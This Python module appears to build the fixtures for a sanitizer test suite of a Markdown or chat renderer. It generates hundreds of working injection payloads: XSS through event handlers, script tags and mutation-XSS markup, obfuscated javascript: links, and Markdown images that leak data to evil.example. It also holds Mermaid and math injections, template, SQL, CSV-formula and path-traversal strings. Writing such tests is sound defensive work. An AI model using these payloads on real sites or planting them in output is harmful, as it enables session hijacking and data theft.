"""The rules that make the payloads: one function for each kind of attack.

A script that runs sets `pwned`; a request that leaves goes to evil.example. The tests look for both.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import product

ACT = "pwned=1"
EVIL = "https://evil.example"


def elements_that_act() -> Iterator[str]:
    """Elements that run script by themselves, or load something."""
    handlers = {
        "img src=x": ("onerror", "onload", "onloadstart"),
        "img srcset=x": ("onerror",),
        "svg": ("onload", "onfocus tabindex=1 autofocus"),
        "body": ("onload", "onpageshow", "onhashchange", "onscroll", "onresize"),
        "video src=x": ("onerror", "onloadstart", "oncanplay"),
        "audio src=x": ("onerror", "onloadstart"),
        "video><source": ("onerror",),
        "input autofocus": ("onfocus", "onblur"),
        "input type=image src=x": ("onerror",),
        "textarea autofocus": ("onfocus",),
        "select autofocus": ("onfocus",),
        "button popovertarget=p id=p popover": ("onbeforetoggle", "ontoggle"),
        "details open": ("ontoggle",),
        "marquee": ("onstart", "onfinish"),
        "object data=x": ("onerror", "onload"),
        "embed src=x": ("onload",),
        "iframe": ("onload",),
        "div contenteditable autofocus": ("onfocus",),
        "p style='animation: x 1s'": ("onanimationstart", "onanimationend"),
        "p style='transition: all 1s'": ("ontransitionend",),
        "svg><animate attributeName=x dur=1s": ("onbegin", "onend"),
        "svg><set attributeName=x": ("onbegin",),
        "math href=javascript:pwned=1": ("onclick",),
        "dialog open": ("onclose",),
        "link rel=stylesheet href=x": ("onerror", "onload"),
        "script src=x": ("onerror",),
        "a href=x": ("onmouseover", "onpointerenter", "onclick"),
    }
    for element, events in handlers.items():
        for event in events:
            yield f"<{element} {event}={ACT}>"
    for quote, gap in product(('"', "'", "`"), (" ", "/", "\t", "\n", "\x0c")):
        yield f"<img{gap}src=x{gap}onerror={quote}{ACT}{quote}>"


def scripts() -> Iterator[str]:
    """The script element, whole, broken, nested and in other cases."""
    yield from (
        f"<script>{ACT}</script>",
        f"<SCRIPT>{ACT}</SCRIPT>",
        f"<ScRiPt >{ACT}</sCrIpT >",
        f"<script\n>{ACT}</script\n>",
        f"<script/x>{ACT}</script/x>",
        f"<<script>{ACT}//<</script>",
        f"<scr<script>ipt>{ACT}</scr</script>ipt>",
        f"<script src={EVIL}/x.js></script>",
        "<script src=//evil.example/x.js></script>",
        f"<script type=module>import '{EVIL}/x.js'</script>",
        f"<script type=importmap>{{}}</script><script>{ACT}</script>",
        f"<svg><script>{ACT}</script></svg>",
        f"<svg><script href=data:,{ACT} />",
        f'<noscript><p title="</noscript><script>{ACT}</script>">',
        f"<template><script>{ACT}</script></template>",
        f"<div><template shadowrootmode=open><script>{ACT}</script></template></div>",
        f"<script>{ACT}",
        f"</script><script>{ACT}</script>",
        f"</title><script>{ACT}</script>",
        f"</textarea><script>{ACT}</script>",
        f"</style><script>{ACT}</script>",
        f"--><script>{ACT}</script>",
        f"]]><script>{ACT}</script>",
        f"<!--><script>{ACT}</script>",
        f"<![CDATA[<script>{ACT}</script>]]>",
        f"<?xml version='1.0'?><script>{ACT}</script>",
        f"\ufeff<script>{ACT}</script>",
        f"<\x00script>{ACT}</script>",
        f"\u003cscript\u003e{ACT}\u003c/script\u003e",
        f"\uff1cscript\uff1e{ACT}\uff1c/script\uff1e",
        f"&lt;script&gt;{ACT}&lt;/script&gt;",
        f"&#60;script&#62;{ACT}&#60;/script&#62;",
        f"%3Cscript%3E{ACT}%3C/script%3E",
        f"+ADw-script+AD4-{ACT}+ADw-/script+AD4-",
    )


def parsers_confused() -> Iterator[str]:
    """Markup that changes its meaning when parsed twice: foreign content, raw text, comments (mutation XSS)."""
    inner = f"<img src=x onerror={ACT}>"
    foreign, integration = (
        ("svg", "math"),
        ("desc", "foreignObject", "title", "mtext", "mi", "annotation-xml encoding=text/html"),
    )
    raw = ("style", "title", "textarea", "noscript", "xmp", "iframe", "noembed", "noframes", "plaintext")
    for root, point, text in product(foreign, integration[:4], ("style", "title", "xmp")):
        yield f"<{root}><{point}><{text}><!--</{text}>{inner}-->"
    for name in raw:
        yield f"<{name}></{name}>{inner}</{name}>"
        yield f'<{name}><a title="</{name}>{inner}">'
    yield f"<form><math><mtext></form><form><mglyph><style></math>{inner}"
    yield f"<math><mtext><table><mglyph><style><math href=javascript:{ACT}>x"
    yield f'<svg></p><style><g title="</style>{inner}">'
    yield f"<table><td><table></table>{inner}</table>"
    yield f'<select><template><style><!--</style><a rel="--></style></template></select>{inner}">'


def loaders() -> Iterator[str]:
    """Markup that makes a request to another host without any script."""
    for made in (
        "<img src={}/1.png>", "<img srcset='{}/1.png 1x'>", "<picture><source srcset={}/1.png><img></picture>",
        "<link rel=stylesheet href={}/x.css>", "<link rel=preload as=image href={}/x>", "<link rel=dns-prefetch href={}>",
        "<link rel=preconnect href={}>", "<link rel=icon href={}/i.png>", "<link rel=manifest href={}/m>",
        "<style>@import '{}/x.css'</style>", "<style>body{{background:url({}/x)}}</style>",
        "<p style='background:url({}/x)'>x</p>", "<p style='position:fixed;inset:0;z-index:9999'>over {}</p>",
        "<iframe src={}></iframe>", "<iframe srcdoc='<img src={}/x>'></iframe>", "<frameset><frame src={}></frameset>",
        "<object data={}/x></object>", "<embed src={}/x>", "<video poster={}/x></video>", "<audio src={}/x></audio>",
        "<track src={}/x>", "<input type=image src={}/x>", "<base href={}/>", "<meta http-equiv=refresh content='0;url={}'>",
        "<form action={}><button>Sign in again</button></form>", "<button formaction={}>x</button>",
        "<a ping={}/p href=x>x</a>", "<body background={}/x>", "<table background={}/x>", "<isindex action={}>",
        "<svg><image href={}/x /></svg>", "<svg><use href='{}/x#y'/></svg>", "<svg><feImage href={}/x /></svg>",
        "<math><maction actiontype=statusline href={}>x</maction></math>", "<portal src={}>", "<fencedframe src={}>",
    ):  # fmt: skip
        yield made.format(EVIL)


def addresses() -> Iterator[str]:
    """Links in Markdown whose address runs script, points into this site, or hides its destination."""
    schemes = (
        f"javascript:{ACT}", f"JaVaScRiPt:{ACT}", f"javascript:/*--></title>*/{ACT}", f"javascript://%0a{ACT}",
        f"javascript:\u2028{ACT}", f"java\tscript:{ACT}", f"java&#9;script:{ACT}", f"java&NewLine;script:{ACT}",
        f"&#106;avascript:{ACT}", f"&#x6A;avascript:{ACT}", f"&#x6A&#x61vascript:{ACT}", f"javascript&colon;{ACT}",
        f"\x01javascript:{ACT}", f" javascript:{ACT}", f"\\javascript:{ACT}", f"java\\script:{ACT}", f"%6Aavascript:{ACT}",
        f"javascript%3A{ACT}", f"\u200bjavascript:{ACT}", f"view-source:javascript:{ACT}", "vbscript:msgbox(1)",
        f"livescript:{ACT}", f"mocha:{ACT}", f"data:text/html,<script>{ACT}</script>",
        "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+", f"data:image/svg+xml,<svg/onload={ACT}>",
        "data:application/xhtml+xml,<x/>", "blob:null/1", "filesystem:https://x/1", "file:///etc/passwd", "about:blank",
        "chrome://settings", "intent://x#Intent;end", "jar:https://evil.example!/x", "ftp://evil.example/x", "tel:+1", "sms:+1",
        "/account/logout/", "/admin/", "//evil.example/x", "\\\\evil.example\\x", "?theme=dark", "#composer-text", "../../admin/",
        "https:evil.example", "https://user:pass@evil.example/", "https://trusted.example@evil.example/",
        "https://evil.example\\@trusted.example/", "https://\u0435vil.example/", "https://evil\u3002example/",
        "https://evil.example/\u202egnp.exe", f"https://evil.example/\"onmouseover=\"{ACT}",
    )  # fmt: skip
    for address in schemes:
        yield f"[click]({address})"
    for address in schemes[:12]:
        yield f"[click](<{address}>)"
        yield f"![picture]({address})"
        yield f"[ref]: {address}\n\n[ref]"
        yield f"<{address}>"
    yield f"[click]({EVIL} '\" onclick=\"{ACT}')"
    yield f"[<img src=x onerror={ACT}>]({EVIL})"
    yield f"[![x]({EVIL}/a.png)](javascript:{ACT})"
    yield f'![a](x"onerror="{ACT})'
    yield f"[x][<script>{ACT}</script>]\n\n[<script>{ACT}</script>]: {EVIL}"


def pictures() -> Iterator[str]:
    """Pictures in Markdown that would send data of the answer to another host."""
    yield from (
        f"![]({EVIL}/?leak=secret)", f"![x]({EVIL}/?leak=secret 'title')", f"![x][p]\n\n[p]: {EVIL}/?leak=1",
        "![x](//evil.example/p.png)", f"![x](<{EVIL}/p q.png>)", f"![x]({EVIL}/p.svg#a)", f"![x](blob:{EVIL}/1)",
        f"![x](data:image/svg+xml;utf8,<svg onload={ACT} xmlns='http://www.w3.org/2000/svg'/>)",
        "![x](data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=)", f"[^1]\n\n[^1]: ![x]({EVIL}/f.png)",
        f"| ![x]({EVIL}/t.png) |\n|---|\n| ![y]({EVIL}/u.png) |", f"> ![x]({EVIL}/q.png)", f"- [ ] ![x]({EVIL}/l.png)",
        f"# ![x]({EVIL}/h.png)", f"[![x]({EVIL}/a.png)]({EVIL}/b)", f"{EVIL}/autolink?leak=secret", f"<{EVIL}/angle?leak=1>",
        "www.evil.example/leak", "leak@evil.example",
    )  # fmt: skip


def fences() -> Iterator[str]:
    """Code, math and diagrams whose text or label is markup."""
    yield from (
        f"```\"><script>{ACT}</script>\ncode\n```", f"```js onload={ACT}\ncode\n```", f"```html\n<script>{ACT}</script>\n```",
        f"```<img src=x onerror={ACT}>\n```", f"~~~ \"onmouseover={ACT} x=\"\ncode\n~~~", "```__proto__\nx\n```",
        "```constructor\nx\n```", "```../../../../etc/passwd\nx\n```", f"`<script>{ACT}</script>`", f"``` `<b onclick={ACT}>` ```",
        f"    <script>{ACT}</script>", f"```mermaid\ngraph TD; A[\"<img src=x onerror={ACT}>\"]-->B\n```",
        f"```mermaid\ngraph TD; A-->B; click A href \"javascript:{ACT}\"\n```",
        f"```mermaid\n%%{{init: {{\"securityLevel\": \"loose\", \"theme\": \"x{{}}</style><script>{ACT}</script>\"}}}}%%\ngraph TD; A\n```",
        f"```mermaid\nsequenceDiagram\nA->>B: <script>{ACT}</script>\n```", f"```svg\n<svg onload={ACT}>\n```",
        f"$$\\href{{javascript:{ACT}}}{{x}}$$", f"$$\\url{{javascript:{ACT}}}$$", f"$$\\htmlData{{x={ACT}}}{{y}}$$",
        f"$$\\htmlStyle{{background:url({EVIL})}}{{x}}$$", f"$$\\includegraphics{{{EVIL}/x.png}}$$", f"\\(\\href{{javascript:{ACT}}}{{x}}\\)",
        f"$$<script>{ACT}</script>$$", "$$\\def\\x{\\x\\x}\\x$$", "$$\\rule{9999em}{9999em}$$", "$$\\color{red;background:url(x)}x$$",
        f"$$\\text{{</annotation><script>{ACT}</script>}}$$",
    )  # fmt: skip


def constructs() -> Iterator[str]:
    """An element in every construct of Markdown, and texts that break out of their context."""
    mark = f"<b onclick={ACT}>x</b>"
    for place in (
        "# {}", "> {}", "- {}", "1. {}", "- [x] {}", "| {} |\n|---|\n| {} |", "**{}**", "*{}*", "~~{}~~", "[{}](x)", "[^1]: {}\n\n[^1]",
        "{}\n===", "***\n{}\n***", "<details>{}</details>", "term\n: {}",
    ):  # fmt: skip
        yield place.format(mark, mark)
    for before in (
        '"',
        "'",
        "`",
        '">',
        "'>",
        '\\"',
        "\\x22",
        "&quot;",
        "*/",
        "}}",
        "</",
        "\u2028",
        "\r\n\r\n",
        "\x1b[31m",
        "%00",
        "${",
        "{{",
        "<%=",
    ):
        yield f"{before}{mark}{before}"
    yield from (
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% load static %}", "{{ settings.SECRET_KEY }}", "{0.__class__.__init__.__globals__}",
        "%(secret)s %s %n", "{name} {count} {reason}", "__proto__", "constructor.prototype.polluted", "toString", "hasOwnProperty",
        '{"__proto__": {"polluted": 1}}', '{"type": "bye", "code": 4001}', '["add", [], ["script", null, "pwned=1"]]',
        '=HYPERLINK("https://evil.example?"&A1,"x")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", "\t=1+1", "\r=1+1",
        "'; DROP TABLE chat_message; --", "' OR '1'='1", "\" NEAR/0 \"", "* OR ^ AND (", "%' ESCAPE '", "\\", "..\\..\\x", "../../etc/passwd",
        "file\u202egnp.exe", "\u202e\u2066abc\u2069", "\u2067rtl <script>", "a\u0000b", "\ufffe\uffff", "\U000e0001\U000e0041", "\u0340\u0341" * 20,
        "z" + "\u0335\u034c\u0360" * 40, "\u200b" * 50, "W" * 300, "\n" * 30, "<" * 200, "[" * 200, "![" * 100, "*" * 200, "`" * 99, "> " * 60,
        "- " * 60, "|" * 120, "#" * 60, "a@" * 60, "http://" * 40, "&" * 120, "&#" * 60, "[a](" * 60, "<a " * 60, "[^1]" * 40,
    )  # fmt: skip


RULES: tuple[Callable[[], Iterator[str]], ...] = (
    elements_that_act, scripts, parsers_confused, loaders, addresses, pictures, fences, constructs,
)  # fmt: skip


def every_payload() -> list[str]:
    """All of them, each once, in the order of the rules."""
    return list(dict.fromkeys(payload for rule in RULES for payload in rule()))
